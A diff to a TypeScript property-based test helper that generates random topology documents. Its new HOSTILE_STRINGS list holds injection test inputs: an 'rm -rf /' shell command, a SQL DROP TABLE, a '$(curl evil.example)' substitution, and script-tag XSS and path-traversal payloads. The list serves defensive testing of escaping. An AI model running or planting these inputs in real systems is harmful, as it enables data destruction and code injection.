@@ -79,7 +79,31 @@ export const HOSTILE_NAMES: readonly string[] = [
 /** One more than the schema accepts: must be refused with a clear message. */
 export const TOO_LONG_NAME = 'x'.repeat(10_000);
 
-/** Any valid name: arbitrary Unicode (lone surrogates included), hostile text, the longest one. */
+/**
+ * Text that tries to break out of the formats a design travels in (share link, SVG and
+ * PNG metadata, XML): shell and SQL injection, command substitution, markup, CDATA ends,
+ * entities and comments, mixed line breaks and tabs, bidi override, control characters,
+ * emoji and other scripts, percent-encoding, a name of exactly LIMITS.maxNameChars. All
+ * valid names. Pass them to arbTopology as `extraNames` to put them in random documents.
+ */
+export const HOSTILE_STRINGS: readonly string[] = [
+  '"; rm -rf / #',
+  "'; DROP TABLE pools; --",
+  '$(curl evil.example)',
+  '`whoami`',
+  '<script>alert(1)</script>',
+  ']]><script>alert(2)</script><![CDATA[',
+  '&amp; &lt; &#x3C; <!-- -->',
+  'line one\nline two\r\n\ttab',
+  '\u202Eevil\u202C RTL override',
+  '\u0000\u0001\u001f\u007f control',
+  '🏢 Zürich – 東京 – القاهرة',
+  '{{constructor.constructor("x")()}}',
+  '%00%2e%2e%2f',
+  'x'.repeat(LIMITS.maxNameChars),
+];
+
+/** Any valid name: arbitrary Unicode (no lone surrogates: fast-check never makes them; share.test.ts has one by hand), hostile text, the longest one. */
 export const arbName: fc.Arbitrary<string> = fc.oneof(
   { weight: 4, arbitrary: fc.string({ maxLength: 24 }) },
   { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
@@ -140,6 +164,19 @@ export interface TopologyArbitraryOptions {
    * LIMITS.maxServersPerPool servers, on a small share of nodes. Default true.
    */
   extremeCounts?: boolean;
+  /**
+   * Valid names (e.g. HOSTILE_STRINGS) drawn, besides arbName, for the document, its
+   * description, sites and nodes: a quarter of those names. Default none.
+   */
+  extraNames?: readonly string[];
+  /**
+   * Also the values the share link's compact codec stores as a prediction or a common
+   * factor rather than as the value (app/share/compact-codec.ts): node names equal to the
+   * id in capitals, link ids `l1`, `l2`… in document order (half of the documents), layout
+   * positions on the canvas's 8-pixel grid (some positions; every position in half of the
+   * documents, a common factor of all deltas) and whole numbers up to ±1e7. Default false.
+   */
+  codecPredictions?: boolean;
 }
 
 /** Server counts: mostly realistic, sometimes at the schema's maximum (LIMITS.maxServersPerPool). */
@@ -165,9 +202,10 @@ function clean<T extends object>(o: T): T {
 
 // ---------------------------------------------------------------- nodes
 
-function arbNode(kind: NodeKind, id: string, siteIds: readonly string[], extreme: boolean): fc.Arbitrary<TopologyNode> {
+function arbNode(kind: NodeKind, id: string, siteIds: readonly string[], extreme: boolean, names: fc.Arbitrary<string> = arbName, upperCaseId = false): fc.Arbitrary<TopologyNode> {
   const site = fc.constantFrom(...siteIds);
-  const base = fc.record({ name: fc.oneof({ weight: 3, arbitrary: arbName }, { weight: 1, arbitrary: fc.constant(id) }), siteId: site, fqdn: arbFqdn });
+  const name = fc.oneof({ weight: 3, arbitrary: names }, { weight: 1, arbitrary: fc.constant(id) }, ...(upperCaseId ? [{ weight: 1, arbitrary: fc.constant(id.toUpperCase()) }] : []));
+  const base = fc.record({ name, siteId: site, fqdn: arbFqdn });
   const pv = fc.constantFrom(...PRODUCT_VERSIONS);
   const bool = fc.boolean();
   const users = userCount(extreme);
@@ -308,6 +346,13 @@ const coordinate = fc.oneof(
   { weight: 1, arbitrary: fc.double({ min: -1e7, max: 1e7, noNaN: true, noDefaultInfinity: true }) },
 );
 
+/** With codecPredictions: also any whole number up to ±1e7 and multiples of 8 (a common factor of the deltas). */
+const predictedCoordinate = fc.oneof(
+  { weight: 4, arbitrary: fc.integer({ min: -1e7, max: 1e7 }) },
+  { weight: 2, arbitrary: fc.integer({ min: -100, max: 2000 }).map((n) => n * 8) },
+  { weight: 2, arbitrary: coordinate },
+);
+
 // ---------------------------------------------------------------- document
 
 /** A valid topology (parseTopology accepts it unchanged), built in one piece so shrinking stays valid. */
@@ -316,6 +361,9 @@ export function arbTopology(o: TopologyArbitraryOptions = {}): fc.Arbitrary<Topo
   const maxNodes = o.maxNodes ?? 14;
   const maxLinks = o.maxLinks ?? 20;
   const extreme = o.extremeCounts ?? true;
+  const predictions = o.codecPredictions ?? false;
+  const names = o.extraNames?.length ? fc.oneof({ weight: 3, arbitrary: arbName }, { weight: 1, arbitrary: fc.constantFrom(...o.extraNames) }) : arbName;
+  const point = predictions ? predictedCoordinate : coordinate;
   return fc
     .record({
       siteCount: fc.integer({ min: 1, max: maxSites }),
@@ -331,25 +379,27 @@ export function arbTopology(o: TopologyArbitraryOptions = {}): fc.Arbitrary<Topo
         const sites = fc.tuple(
           ...siteIds.map((id) =>
             fc
-              .record({ name: fc.oneof(arbName, fc.constant(id)), kind: fc.constantFrom(...SITE_KINDS), region: optional(arbText()), datacenter: optional(arbText()) })
+              .record({ name: fc.oneof(names, fc.constant(id)), kind: fc.constantFrom(...SITE_KINDS), region: optional(arbText()), datacenter: optional(arbText()) })
               .map((s) => clean({ id, ...s }) as Site),
           ),
         );
-        const nodes = kinds.length ? fc.tuple(...kinds.map((k, i) => arbNode(k, nodeIds[i]!, siteIds, extreme))) : fc.constant([] as TopologyNode[]);
+        const nodes = kinds.length ? fc.tuple(...kinds.map((k, i) => arbNode(k, nodeIds[i]!, siteIds, extreme, names, predictions))) : fc.constant([] as TopologyNode[]);
         const slot = fc.record({ kind: arbLinkKind, a: fc.nat(), b: fc.nat(), c: fc.nat(), extras: arbLinkExtras });
         const layoutSize = siteCount + kinds.length;
         return fc
           .record({
-            name: arbName,
-            description: optional(fc.oneof(arbName, fc.lorem({ maxCount: 30 }), fc.string({ minLength: LIMITS.maxDescriptionChars - 1, maxLength: LIMITS.maxDescriptionChars }))),
+            name: names,
+            description: optional(fc.oneof(names, fc.lorem({ maxCount: 30 }), fc.string({ minLength: LIMITS.maxDescriptionChars - 1, maxLength: LIMITS.maxDescriptionChars }))),
             mode: fc.constantFrom(...DEPLOYMENT_MODES),
             sites,
             nodes,
             links: fc.array(slot, { minLength: linkCount, maxLength: linkCount }),
+            sequentialLinkIds: predictions ? fc.boolean() : fc.constant(false),
+            snapToGrid: predictions ? fc.boolean() : fc.constant(false),
             cmsPick: fc.option(fc.nat(), { nil: undefined, freq: 4 }),
             layoutMode: fc.constantFrom('none', 'empty', 'some', 'all'),
             layoutPick: fc.array(fc.boolean(), { minLength: layoutSize, maxLength: layoutSize }),
-            coords: fc.array(fc.tuple(coordinate, coordinate), { minLength: layoutSize, maxLength: layoutSize }),
+            coords: fc.array(fc.tuple(point, point), { minLength: layoutSize, maxLength: layoutSize }),
           })
           .map((r): Topology => {
             const nodeList = [...r.nodes];
@@ -357,17 +407,27 @@ export function arbTopology(o: TopologyArbitraryOptions = {}): fc.Arbitrary<Topo
             r.links.forEach((s, i) => {
               const ends = pickEndpoints(s.kind, nodeList, s.a, s.b, s.c);
               if (!ends) return;
-              linkList.push({ id: linkIds[i]!, kind: s.kind, from: ends[0].id, to: ends[1].id, ...extrasFor(s.kind, s.extras) } as Link);
+              const id = r.sequentialLinkIds ? `l${linkList.length + 1}` : linkIds[i]!;
+              linkList.push({ id, kind: s.kind, from: ends[0].id, to: ends[1].id, ...extrasFor(s.kind, s.extras) } as Link);
             });
+            if (r.sequentialLinkIds) {
+              // `l<n>` ids must not collide with site or node ids.
+              const taken = new Set([...siteIds, ...nodeIds]);
+              for (const l of linkList) {
+                while (taken.has(l.id)) l.id = `${l.id}x`;
+                taken.add(l.id);
+              }
+            }
             const registrars = nodeList.filter((n) => n.kind === 'frontEndPool' || n.kind === 'standardEditionServer');
             const cmsHost = registrars.length && r.cmsPick !== undefined ? registrars[r.cmsPick % registrars.length]!.id : null;
             const allIds = [...siteIds, ...nodeIds];
             let layout: Record<string, Position> | undefined;
+            const at = (v: number) => (r.snapToGrid ? Math.round(v / 8) * 8 : v);
             if (r.layoutMode !== 'none') {
               layout = {};
               if (r.layoutMode !== 'empty')
                 allIds.forEach((id, i) => {
-                  if (r.layoutMode === 'all' || r.layoutPick[i]) layout![id] = { x: r.coords[i]![0], y: r.coords[i]![1] };
+                  if (r.layoutMode === 'all' || r.layoutPick[i]) layout![id] = { x: at(r.coords[i]![0]), y: at(r.coords[i]![1]) };
                 });
             }
             return clean({
